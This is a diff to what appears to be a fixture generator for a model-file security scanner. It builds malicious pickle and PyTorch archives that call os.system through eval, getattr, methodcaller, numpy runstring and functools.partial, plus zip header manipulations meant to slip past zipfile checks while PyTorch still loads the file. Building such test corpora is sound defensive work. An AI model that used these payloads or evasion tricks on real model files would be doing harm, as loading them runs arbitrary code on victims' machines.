@@ -205,12 +205,13 @@ def keras_archive(config):
     import h5py
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, 'w') as z:
-        z.writestr('metadata.json', json.dumps({'keras_version': '3.3.3', 'date_saved': '2024-01-01@00:00:00'}))
-        z.writestr('config.json', json.dumps(config))
+        stamp = (2024, 1, 1, 0, 0, 0)
+        z.writestr(zipfile.ZipInfo('metadata.json', stamp), json.dumps({'keras_version': '3.3.3', 'date_saved': '2024-01-01@00:00:00'}))
+        z.writestr(zipfile.ZipInfo('config.json', stamp), json.dumps(config))
         h5 = io.BytesIO()
         with h5py.File(h5, 'w') as f:
             f.create_group('layers')
-        z.writestr('model.weights.h5', h5.getvalue())
+        z.writestr(zipfile.ZipInfo('model.weights.h5', stamp), h5.getvalue())
     return buf.getvalue()
 
 
@@ -246,22 +247,30 @@ def malicious():
     write('malicious', 'stack_global_eval_call.pkl',
           proto(4) + s_unicode('builtins') + s_unicode('eval.__call__') + b'\x93'
           + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
+    # name computed while loading: STACK_GLOBAL('builtins', str(b'eval', 'ascii'))
+    write('malicious', 'stack_global_computed_name.pkl',
+          proto(4) + s_unicode('builtins') + b'cbuiltins\nstr\n' + b'C\x04eval' + s_unicode('ascii') + b'\x86R\x93'
+          + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
     # builtins.getattr(builtins.__import__('os'), 'system')(payload)
     ga = (proto(2) + b'cbuiltins\ngetattr\n' + b'cbuiltins\n__import__\n' + b'X\x02\x00\x00\x00os' + b'\x85R'
           + b'X\x06\x00\x00\x00system' + b'\x86R' + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x85R.')
     write('malicious', 'getattr_chain.pkl', ga)
     # Python 2 name mapped by fix_imports: __builtin__.eval
-    write('malicious', 'py2_builtin_eval.pkl', proto(2) + b'c__builtin__\neval\n' + b'X' + struct.pack('<I', 30) + b"__import__('os').system('id')" + b' ' + b'\x85R.')
+    ev = ("__import__('os').system('" + PAYLOAD + "')").encode()
+    write('malicious', 'py2_builtin_eval.pkl', proto(2) + b'c__builtin__\neval\n' + b'X' + struct.pack('<I', len(ev)) + ev + b'\x85R.')
     # protocol 0 forms: GLOBAL+REDUCE, INST, OBJ
     write('malicious', 'protocol0_global_reduce.pkl', p0_system())
     write('malicious', 'protocol0_inst.pkl', b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.")
     write('malicious', 'protocol1_obj.pkl', b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.")
     write('malicious', 'subprocess_popen.pkl', proto(2) + b'csubprocess\nPopen\n' + b'(X\x05\x00\x00\x00touchX\x11\x00\x00\x00/tmp/oculum-pwnedl\x85R.')
     # runpy / numpy runstring / operator.methodcaller / functools.partial (modelscan gaps)
+    src = ("import os; os.system('" + PAYLOAD + "')").encode()
     write('malicious', 'numpy_runstring.pkl', proto(2) + b'cnumpy.testing._private.utils\nrunstring\n'
-          + b'X' + struct.pack('<I', 38) + b"import os; os.system('touch /tmp/x')  " + b'}\x86R.')
+          + b'X' + struct.pack('<I', len(src)) + src + b'}\x86R.')
+    # methodcaller('system', payload)(__import__('os'))
     write('malicious', 'operator_methodcaller.pkl', proto(2) + b'coperator\nmethodcaller\nX\x06\x00\x00\x00system'
-          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R' + b'cos\n__name__\n\x85R.')
+          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R'
+          + b'cbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R\x85R.')
     write('malicious', 'functools_partial.pkl', proto(2) + b'cfunctools\npartial\ncos\nsystem\n'
           + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R)R.')
     write('malicious', 'torch_hub_load.pkl', proto(2) + b'ctorch.hub\nload\nX\x0b\x00\x00\x00evil/repo:xX\x05\x00\x00\x00model\x86R.')
@@ -308,10 +317,15 @@ def malicious():
     z = rebuild([('archive/data.pkl', evil_pkl)] + others)
     patch_zip(z, 'archive/data.pkl', crc=0xDEADBEEF)
     write('malicious', 'zip_bad_crc.pt', bytes(z))
-    # encryption flag bit: zipfile refuses, PyTorch reads the bytes as stored
+    # flag bits in the local header only: zipfile refuses "compressed patched data" (bit 5),
+    # PyTorch (miniz) reads flags from the central directory only
     z = rebuild([('archive/data.pkl', evil_pkl)] + others)
-    patch_zip(z, 'archive/data.pkl', flags=0x1)
-    write('malicious', 'zip_encrypted_flag.pt', bytes(z))
+    patch_zip(z, 'archive/data.pkl', flags=0x20, local_only=True)
+    write('malicious', 'zip_local_flag_bits.pt', bytes(z))
+    # local header names another file: zipfile refuses ("File name in directory and header differ")
+    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
+    patch_zip(z, 'archive/data.pkl', local_name=b'archive/data.pkX')
+    write('malicious', 'zip_local_name_mismatch.pt', bytes(z))
     # any archive folder name
     write('malicious', 'zip_renamed_archive_dir.pt', bytes(rebuild([('totally_not_a_model/data.pkl', evil_pkl)] + [(n.replace('archive/', 'totally_not_a_model/'), d) for n, d in others])))
     # nested zip: a zip inside a zip
@@ -322,7 +336,7 @@ def malicious():
     tb = io.BytesIO()
     with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT) as t:
         for n, d in [('sys_info', pickle.dumps({'protocol_version': 1001}, protocol=2)), ('pickle', pickle.dumps(Evil(), protocol=2)),
-                     ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]:
+                     ('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]:
             info = tarfile.TarInfo(n)
             info.size = len(d)
             t.addfile(info, io.BytesIO(d))
@@ -408,7 +422,7 @@ class NestedLoads:
         return (pickle.loads, (self.data,))
 
 
-def patch_zip(buf, name, crc=None, flags=None):
+def patch_zip(buf, name, crc=None, flags=None, local_only=False, local_name=None):
     n = name.encode()
     i = 0
     while True:
@@ -421,7 +435,9 @@ def patch_zip(buf, name, crc=None, flags=None):
                 struct.pack_into('<I', buf, i + 14, crc)
             if flags is not None:
                 struct.pack_into('<H', buf, i + 6, flags)
-        if sig == b'PK\x01\x02' and bytes(buf[i + 46:i + 46 + len(n)]) == n:
+            if local_name is not None:
+                buf[i + 30:i + 30 + len(n)] = local_name
+        if sig == b'PK\x01\x02' and bytes(buf[i + 46:i + 46 + len(n)]) == n and not local_only:
             if crc is not None:
                 struct.pack_into('<I', buf, i + 16, crc)
             if flags is not None:
